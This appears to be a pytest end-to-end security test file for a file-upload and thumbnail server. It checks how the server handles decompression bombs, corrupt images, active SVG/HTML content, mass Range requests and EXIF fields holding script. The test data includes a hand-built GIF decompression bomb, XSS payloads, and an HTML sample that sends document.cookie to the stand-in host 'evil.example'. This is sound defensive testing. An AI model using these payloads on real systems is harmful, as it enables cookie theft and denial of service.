"""Hostile content that is stored, over a real server: decompression bombs and ten thousand
ranges are answered at once in bounded memory, broken images fail with a readable error,
active content is a sandboxed attachment, and EXIF with a script stays data. Nothing of it
is drawn into a thumbnail, and the server answers ``/healthz`` at once afterwards."""

from __future__ import annotations

import io
import struct
import threading
import time
from collections.abc import Callable
from pathlib import Path

import httpx
import psutil
import pytest
from PIL import ExifTags, Image

from tests import imagegen
from tests.conftest import Server
from tests.helpers import assert_healthy, task_of, wait_done, wait_for
from tests.security_helpers import assert_no_thumbnail, pillow_bytes, upload_as_png

pytestmark = pytest.mark.e2e


# Bombs, broken images, active content --------------------------------------------------------


def _gif_bomb() -> bytes:
    """A one-pixel frame on a 65535 x 65535 logical screen: 4.3 gigapixels to allocate."""
    screen = struct.pack("<HH", 65535, 65535) + b"\x80\x00\x00" + b"\x00\x00\x00\xff\xff\xff"
    frame = b",\x00\x00\x00\x00\x01\x00\x01\x00\x00" + b"\x02\x02D\x01\x00"
    return b"GIF89a" + screen + frame + b";"


def _tree_rss(pid: int) -> int:
    try:
        root = psutil.Process(pid)
        processes = [root, *root.children(recursive=True)]
    except psutil.NoSuchProcess:
        return 0
    total = 0
    for process in processes:
        try:
            total += process.memory_info().rss
        except psutil.NoSuchProcess:
            continue
    return total


@pytest.mark.parametrize(
    "make",
    [lambda tmp: imagegen.decompression_bomb_png(tmp).read_bytes(), lambda tmp: _gif_bomb()],
    ids=["png-20000x20000-1-bit", "gif-65535x65535-screen"],
)
def test_decompression_bombs_fail_at_once_in_bounded_memory(
    accepting: Server, http: httpx.Client, tmp_path: Path, make: Callable[[Path], bytes]
) -> None:
    assert accepting.process is not None
    pid = accepting.process.pid
    data = make(tmp_path)
    peak = 0
    stop = threading.Event()

    def sample() -> None:
        nonlocal peak
        while not stop.is_set():
            peak = max(peak, _tree_rss(pid))
            time.sleep(0.02)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    try:
        started = time.monotonic()
        record = wait_done(http, upload_as_png(http, data, "bomb.png")["id"])
        took = time.monotonic() - started
    finally:
        stop.set()
        sampler.join()
    assert record["status"] == "failed"
    for name in ("metadata", "thumbnails"):
        task = task_of(record, name)
        assert (task["state"], task["attempts"]) == ("failed", 1), task
        assert "image is too large" in task["error"]
        assert "exceeds the limit of 100000000" in task["error"]
    assert took < 10
    assert_no_thumbnail(accepting, http, record)
    assert 0 < peak < 1024**3, f"server and workers peaked at {peak / 1024**2:.0f} MiB"
    assert_healthy(accepting)


def _corrupt_png() -> bytes:
    good = pillow_bytes("PNG")
    start = good.index(b"IDAT") + 4
    return good[:start] + bytes(b ^ 0x5A for b in good[start : start + 200]) + good[start + 200 :]


def _png_without_end(tmp: Path) -> bytes:
    data = pillow_bytes("PNG")
    return data[: data.index(b"IDAT") + 30]


BROKEN: dict[str, Callable[[Path], bytes]] = {
    "truncated-jpeg": lambda tmp: imagegen.truncated_jpeg(tmp).read_bytes(),
    "truncated-png": _png_without_end,
    "corrupt-png-data": lambda tmp: _corrupt_png(),
    "png-signature-then-garbage": lambda tmp: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8,
}


@pytest.mark.parametrize("case", list(BROKEN))
def test_broken_images_fail_with_a_readable_error_and_no_thumbnail(
    accepting: Server, http: httpx.Client, tmp_path: Path, case: str
) -> None:
    record = wait_done(http, upload_as_png(http, BROKEN[case](tmp_path))["id"])
    assert record["status"] == "failed"
    thumbnails = task_of(record, "thumbnails")
    assert (thumbnails["state"], thumbnails["attempts"]) == ("failed", 1), thumbnails
    assert thumbnails["error"].startswith(
        ("image is truncated or corrupt", "file is not an image")
    ), thumbnails["error"]
    assert "Traceback" not in thumbnails["error"]
    assert_no_thumbnail(accepting, http, record)
    work = accepting.data_dir / "tmp" / "work" / record["id"]
    wait_for(lambda: not work.exists(), what="the scratch space to be cleaned up")
    assert_healthy(accepting)


ACTIVE = {
    "svg-with-script": (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        b"<script>fetch('/v1/files').then(r => r.text()).then(alert)</script></svg>",
        "image/svg+xml",
    ),
    "html-page": (
        b"<!doctype html><html><body><script>document.location='//evil.example/'"
        b"+document.cookie</script></body></html>",
        "text/html",
    ),
    "html-gif-polyglot": (
        b"GIF89a<html><body><script>alert(document.cookie)</script></body></html>",
        "image/gif",
    ),
}


@pytest.mark.parametrize("case", list(ACTIVE))
def test_active_content_is_a_sandboxed_attachment_without_thumbnail(
    accepting: Server, http: httpx.Client, case: str
) -> None:
    data, sniffed = ACTIVE[case]
    record = wait_done(http, upload_as_png(http, data, "innocent.png")["id"])
    assert record["content_type"] == sniffed
    assert task_of(record, "thumbnails")["state"] in ("skipped", "failed")
    assert_no_thumbnail(accepting, http, record)
    download = http.get(record["links"]["content"])
    assert download.content == data
    # A type a browser would run or render as a page goes as plain bytes; the record keeps
    # the sniffed type.
    served = "image/gif" if sniffed == "image/gif" else "application/octet-stream"
    assert download.headers["content-type"].split(";")[0] == served
    assert download.headers["content-disposition"].startswith("attachment;")
    assert download.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in download.headers["content-security-policy"]
    assert_healthy(accepting)


def test_ten_thousand_ranges_are_answered_fast(accepting: Server, http: httpx.Client) -> None:
    assert accepting.process is not None
    data = bytes(range(256)) * 400
    record = http.put("/v1/files/ranges.bin", content=data).json()
    ranges = "bytes=" + ",".join(f"{i * 10}-{i * 10 + 4}" for i in range(10_000))
    server = psutil.Process(accepting.process.pid)
    cpu_before = sum(server.cpu_times()[:2])
    started = time.monotonic()
    response = http.get(record["links"]["content"], headers={"Range": ranges})
    took = time.monotonic() - started
    cpu = sum(server.cpu_times()[:2]) - cpu_before
    # Several ranges are answered with the whole file, which costs nothing to work out.
    assert (response.status_code, response.content) == (200, data)
    assert took < 1, f"{took:.2f}s"
    assert cpu < 0.5, f"the server spent {cpu:.2f}s of CPU on it"
    assert_healthy(accepting)


# EXIF ----------------------------------------------------------------------------------------


SCRIPT = "<script>alert(document.domain)</script>"


def _jpeg_with_hostile_exif() -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = SCRIPT
    exif[ExifTags.Base.Model] = '"><img src=x onerror=alert(1)>'
    exif[ExifTags.Base.ImageDescription] = SCRIPT
    imagegen._gps_exif(exif, *imagegen.EIFFEL_TOWER)
    out = io.BytesIO()
    imagegen.gradient((640, 480)).save(out, "JPEG", exif=exif, quality=85)
    return out.getvalue()


def test_exif_with_script_and_gps_stays_data(accepting: Server, http: httpx.Client) -> None:
    data = _jpeg_with_hostile_exif()
    assert SCRIPT.encode() in data
    record_id = upload_as_png(http, data, "photo.jpg")["id"]
    wait_done(http, record_id)
    response = http.get(f"/v1/files/{record_id}")
    assert response.headers["content-type"] == "application/json"
    assert response.headers["x-content-type-options"] == "nosniff"
    record = response.json()
    assert record["status"] == "ready"
    exif = record["metadata"]["image"]["exif"]
    assert exif["make"] == SCRIPT, "kept as data, exactly"
    assert exif["gps"]["latitude"] == pytest.approx(imagegen.EIFFEL_TOWER[0], abs=1e-3)
    assert [t["size"] for t in record["thumbnails"]] == [256, 1024]
    for thumb in record["thumbnails"]:
        got = http.get(thumb["url"])
        assert got.headers["content-type"] == "image/webp"
        assert b"script" not in got.content and b"Exif" not in got.content
        assert b"EXIF" not in got.content and b"XMP " not in got.content
        image = Image.open(io.BytesIO(got.content))
        assert not image.getexif()
        assert not {"exif", "xmp", "icc_profile"} & set(image.info)
    page = http.get("/")
    assert page.headers["content-type"].startswith("text/html")
    assert SCRIPT not in page.text
    assert_healthy(accepting)
